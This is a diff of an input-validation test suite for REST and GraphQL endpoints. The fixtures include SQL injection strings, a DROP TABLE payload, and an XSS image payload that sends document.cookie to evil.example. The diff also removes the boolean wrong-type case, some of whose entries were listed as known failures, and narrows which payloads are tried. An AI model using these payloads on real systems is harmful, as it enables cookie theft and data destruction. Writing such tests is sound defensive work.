@@ -16,6 +16,8 @@ const SQL = "' OR 1=1 --";
 const SQL_DROP = "x'); DROP TABLE users; --";
 const HTML = '<script>alert(1)</script>';
 const HTML_IMG = '<img src=x onerror="fetch(`//evil.example/`+document.cookie)">';
+/** Both at once, for the loops that try every field. */
+const SQL_AND_HTML = `${SQL_DROP}${HTML}`;
 
 let serial = 0;
 const uname = () => `bad_${Date.now().toString(36)}${serial++}`;
@@ -87,7 +89,6 @@ const WRONG_TYPES: Array<[string, unknown]> = [
   ['a number', 42],
   ['an array', ['x']],
   ['an object', { $ne: null }],
-  ['a boolean', true],
 ];
 
 /**
@@ -100,8 +101,8 @@ const WRONG_TYPES: Array<[string, unknown]> = [
  *   nested some thousands of levels deep (well under 100 KB) answers 500.
  */
 const KNOWN_WRONG_TYPES: Record<string, string[]> = {
-  'account/login: email': ['a number', 'a boolean'],
-  'account/login: password': ['a number', 'a boolean'],
+  'account/login: email': ['a number'],
+  'account/login: password': ['a number'],
 };
 const KNOWN_BUGS = new Set([
   'account/login: an unknown field',
@@ -159,25 +160,27 @@ describe('bad input is refused cleanly (REST and GraphQL, real Postgres)', () =>
   describe.each(ENDPOINTS.map((e) => [e.name, e] as const))('POST %s', (name, endpoint) => {
     const post = (body: unknown, init?: RequestInit & { csrf?: boolean }) => clientFor(endpoint.as).post(endpoint.path, body as object, init);
 
-    it('refuses an empty body (400)', async () => {
-      await expectRefusedAndUnchanged(() => postRaw(clientFor(endpoint.as), endpoint.path, ''), 400);
-      await expectRefusedAndUnchanged(() => post({}), 400);
-    });
-
     it.each([
-      ['{bad', 'The request body is not valid JSON.'],
-      ['{"a":', 'The request body is not valid JSON.'],
-      ['null', 'The request body is not valid JSON.'],
-      ['"a string"', 'The request body is not valid JSON.'],
-    ])('refuses the malformed JSON %j (400)', async (raw, message) => {
-      const res = await expectRefusedAndUnchanged(() => postRaw(clientFor(endpoint.as), endpoint.path, raw), 400);
-      expect(res.body.message).toBe(message);
+      ['an empty body', () => '', undefined],
+      ['an empty object', () => '{}', undefined],
+      ['malformed JSON', () => '{bad', 'The request body is not valid JSON.'],
+      ['truncated JSON', () => '{"a":', 'The request body is not valid JSON.'],
+      ['JSON null', () => 'null', 'The request body is not valid JSON.'],
+      ['a JSON string', () => '"a string"', 'The request body is not valid JSON.'],
+      ['an empty JSON array', () => '[]', undefined],
+      ['the valid body inside an array', () => JSON.stringify([endpoint.body()]), undefined],
+    ])('refuses %s (400)', async (_label, raw, message) => {
+      const res = await expectRefusedAndUnchanged(() => postRaw(clientFor(endpoint.as), endpoint.path, raw()), 400);
+      if (message) expect(res.body.message).toBe(message);
     });
 
-    it('refuses a JSON array and a body that is not JSON (400)', async () => {
-      await expectRefusedAndUnchanged(() => postRaw(clientFor(endpoint.as), endpoint.path, '[]'), 400);
-      await expectRefusedAndUnchanged(() => postRaw(clientFor(endpoint.as), endpoint.path, JSON.stringify([endpoint.body()])), 400);
-      await expectRefusedAndUnchanged(() => postRaw(clientFor(endpoint.as), endpoint.path, JSON.stringify(endpoint.body()), 'text/plain'), 400);
+    it('refuses the valid body sent as text/plain or form data (400)', async () => {
+      const before = await snapshot();
+      expectRestError(await postRaw(clientFor(endpoint.as), endpoint.path, JSON.stringify(endpoint.body()), 'text/plain'), 400);
+      const form = new FormData();
+      for (const [key, value] of Object.entries(endpoint.body())) form.set(key, String(value));
+      expectRestError(await clientFor(endpoint.as).post(endpoint.path, form), 400);
+      expect(await snapshot()).toEqual(before);
     });
 
     it('refuses a body over 100 KB (413)', async () => {
@@ -220,9 +223,9 @@ describe('bad input is refused cleanly (REST and GraphQL, real Postgres)', () =>
       await expectRefusedAndUnchanged(() => post(endpoint.body(), { csrf: false, headers: { 'x-csrf-token': '' } }), 403);
     });
 
-    it.each([SQL_DROP, HTML_IMG])('never fails on %j in any text field (stored verbatim or refused, never a 500)', async (text) => {
+    it('never fails on SQL or HTML in any text field (stored verbatim or refused, never a 500)', async () => {
       for (const field of endpoint.strings) {
-        const res = await post({ ...endpoint.body(), [field]: text });
+        const res = await post({ ...endpoint.body(), [field]: SQL_AND_HTML });
         expect(res.status).toBeLessThan(500);
         expect(res.headers.get('content-type')).toMatch(/application\/json/);
         if (res.status >= 400) expectRestError(res);
@@ -452,7 +455,7 @@ describe('bad input is refused cleanly (REST and GraphQL, real Postgres)', () =>
       const variables = (input: Record<string, unknown>) => ({ input: m.wrap === false ? input.value : input });
       const firstKey = () => Object.keys(m.input())[0];
 
-      it('refuses a number, an array, an object or a boolean where a string is expected (400 BAD_USER_INPUT)', async () => {
+      it('refuses a number, an array or an object where a string is expected (400 BAD_USER_INPUT)', async () => {
         for (const [, value] of WRONG_TYPES) {
           await expectGqlRefusedAndUnchanged(
             () => clientFor(m.as).gql(m.query, variables({ ...m.input(), [firstKey()]: value })),
@@ -481,8 +484,8 @@ describe('bad input is refused cleanly (REST and GraphQL, real Postgres)', () =>
         expect(res.errors![0].extensions?.reason).toBe('CSRF');
       });
 
-      it.each([SQL, SQL_DROP, HTML])('never fails on %j in the first text field', async (text) => {
-        const res = await clientFor(m.as).gql(m.query, variables({ ...m.input(), [firstKey()]: text }));
+      it('never fails on SQL or HTML in the first text field', async () => {
+        const res = await clientFor(m.as).gql(m.query, variables({ ...m.input(), [firstKey()]: SQL_AND_HTML }));
         expect(res.status).toBeLessThan(500);
         if (res.errors) expectGqlError(res);
       });
